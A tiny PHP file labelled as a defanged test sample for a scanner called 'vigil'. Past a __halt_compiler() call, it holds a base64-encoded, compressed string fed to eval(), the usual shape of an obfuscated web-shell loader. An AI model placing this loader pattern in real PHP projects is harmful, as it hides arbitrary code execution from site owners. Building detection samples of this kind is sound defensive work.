<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$layer = 'eJwrriwuSc3VUIl3dw2JVk9Wj9W0BgBDGAX+';
$code = gzuncompress(base64_decode($layer));
eval($code);
